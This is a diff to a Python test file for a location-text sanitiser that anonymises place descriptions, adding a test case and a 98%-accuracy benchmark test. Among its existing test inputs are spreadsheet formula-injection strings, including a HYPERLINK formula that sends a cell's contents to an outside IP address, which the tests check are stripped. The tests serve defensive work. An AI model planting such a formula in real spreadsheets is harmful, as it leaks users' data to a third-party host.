@@ -7,6 +7,7 @@ from portal.privacy.grammar.columns import places
 from portal.privacy.grammar.lists import LocalLists
 from portal.privacy.grammar.place import place
 from portal.privacy.identifiers.kinds import IdentifierKind
+from tests.bench_utility import cells_of_the_county, lists_of_the_county
 
 STAYS = (
     """
@@ -16,7 +17,7 @@ On or near Sports/recreation Area|On or near Zabih Road|No Location|Sandy Lane|P
 Abbey Park|Victoria Park|Spinney Hill Park|Watermead Country Park|Bus shelter o/s St Mary's Primary School, Burton Road|Robert Smyth Academy
 Rose and Crown PH, Coalville|Christ Church, Stafford Street|The Red Lion|Fox and Hounds|Tesco Express, Melton Road|Outside Tesco|Car park, Haymarket
 Ashby-de-la-Zouch|Barrow upon Soar railway station|Town centre|London Road, Oadby|BELGRAVE GATE, LEICESTER (O/S PREMIER INN)|melton road, syston
-Main St, Gaddesby (next door to the Cheney Arms)|50m north of Station Road|LE2|School bus, route 5A, nr Syston|Abbey Lane / Beaumont Leys Lane
+Main St, Gaddesby (next door to the Cheney Arms)|50m north of Station Road|1 mile north of Station Road|LE2|School bus, route 5A, nr Syston|Abbey Lane / Beaumont Leys Lane
 """.strip()
     .replace("\n", "|")
     .split("|")
@@ -63,6 +64,7 @@ BECOMES = [
     ('=HYPERLINK("http://198.51.100.9/?x="&A2,"Christ Church, Stafford Street")', "Christ Church, Stafford Street"),
     ("+Rose and Crown PH, Coalville", "Rose and Crown PH, Coalville"),
     ("@SUM(A1:A9)", ""),
+    ("outside 76 Mile Cross Lane", "Mile Cross Lane"),
 ]
 
 
@@ -121,3 +123,9 @@ def test_a_whole_column_is_judged_as_its_cells_are():
 )
 def test_what_tells_which_home_it_is_goes_with_the_home(sent, kept):
     assert place(sent).text == kept
+
+
+def test_of_cells_as_a_county_writes_them_98_in_100_stay_whole_once_its_lists_are_loaded():
+    lists, cells = lists_of_the_county(), cells_of_the_county(2_000)
+    lost = [sent for sent, kept in cells if place(sent, lists).text != kept]
+    assert len(lost) <= 0.02 * len(cells), lost
